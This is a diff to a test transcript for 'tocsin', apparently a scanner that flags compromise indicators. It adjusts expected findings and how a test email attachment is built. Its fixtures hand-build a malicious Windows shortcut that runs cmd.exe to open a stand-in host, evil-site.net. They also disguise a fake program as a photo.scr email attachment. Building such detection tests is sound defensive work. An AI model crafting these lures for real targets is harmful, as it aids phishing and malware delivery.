@@ -52,7 +52,6 @@ finding at=lure.docx » word/_rels/settings.xml.rels @ 0x7+13 class=unjudged pla
 $ python3 -c 'import struct, sys; u = lambda t: struct.pack("<H", len(t)) + t.encode("utf-16le"); sys.stdout.buffer.write(bytes.fromhex("4c0000000114020000000000c000000000000046") + struct.pack("<I", 8 | 32 | 128) + bytes(52) + u("..\\cmd.exe") + u("/c start http://evil-site.net/a"))' >invoice.lnk; ./findings invoice.lnk
 tocsin: seen: invoice.lnk: evil-site.net (it stands in a command that runs here), in invoice.lnk
 finding at=invoice.lnk @ 0x1b+13 class=compromise place=command why=["it stands in a command that runs here"]
-finding at=invoice.lnk:2 class=unjudged place=bytes why=["it stands inside a file that is not understood"]
 
 # A program that carries an archive, one with data behind it that nobody reads, one that unpacks itself.
 $ python3 - <<'END'
@@ -182,9 +181,6 @@ finding at=programs/b64 indicator.value=0123456789abcdef0123456789abcdef01234567
 finding at=programs/svchost.exe indicator.value=mothload.exe class=compromise place=program field=OriginalFilename why=["a program that lies here says so of itself"]
 finding at=programs/svchost.exe indicator.value=c:\moth\loader\load.pdb class=compromise place=program field=pdb why=["a program that lies here says so of itself"]
 finding at=programs/svchost.exe indicator.value=mothnet.dll class=unjudged place=program field=import why=["a program that lies here asks for it"]
-finding at=programs/svchost.exe:2 indicator.value=mothload.exe class=unjudged place=bytes why=["it stands inside a file that is not understood"]
-finding at=programs/svchost.exe:3 indicator.value=c:\moth\loader\load.pdb class=unjudged place=bytes why=["it stands inside a file that is not understood"]
-finding at=programs/svchost.exe:3 indicator.value=mothnet.dll class=unjudged place=bytes why=["it stands inside a file that is not understood"]
 
 # Cut anywhere, nothing is lost but what was cut, and nobody falls.
 $ mkdir cut; python3 -c "
@@ -199,12 +195,11 @@ summary gaps=0
 $ python3 -c "
 > import base64
 > print('From: a@b.example\nTo: c@d.example\nDate: Tue, 12 May 2020 07:12:00 +0000\nContent-Type: application/x; name=photo.scr\nContent-Transfer-Encoding: base64\n')
-> print(base64.encodebytes(open('programs/svchost.exe', 'rb').read()).decode())" >photo.eml; tocsin sweep -q --format json -e mothload.exe -e mothnet.dll photo.eml | records +finding at class place field why; tocsin sweep -q -e mothload.exe photo.eml | grep -A3 '^ 1 .* photo.scr'
+> print(base64.encodebytes(open('programs/svchost.exe', 'rb').read() + 'runs mothload.exe'.encode('utf-16-le')).decode())" >photo.eml; tocsin sweep -q --format json -e mothload.exe -e mothnet.dll photo.eml | records +finding at class place field why; tocsin sweep -q -e mothload.exe photo.eml | grep -A3 '^ 1 .* photo.scr'
 finding at=photo.eml » photo.scr class=attempt place=program field=OriginalFilename why=["a message to us", "a program that says so of itself, attached to a message to us"]
 finding at=photo.eml » photo.scr class=unjudged place=program field=import why=["a program that lies here asks for it"]
-finding at=photo.eml » photo.scr:2 class=unjudged place=bytes why=["it stands inside a file that is not understood"]
 finding at=photo.eml » photo.scr:3 class=unjudged place=bytes why=["it stands inside a file that is not understood"]
- 1 mothload.exe stands in photo.eml > photo.scr, 12 May 07:12: "me Moth & Co
-   D\r\x01OriginalFilename mothload.exe". To be judged: it stands inside a file
-   that is not understood. F2
+ 1 mothload.exe stands in photo.eml > photo.scr, 12 May 07:12: "runs
+   mothload.exe". To be judged: it stands inside a file that is not understood.
+   F2
 THEY TRIED
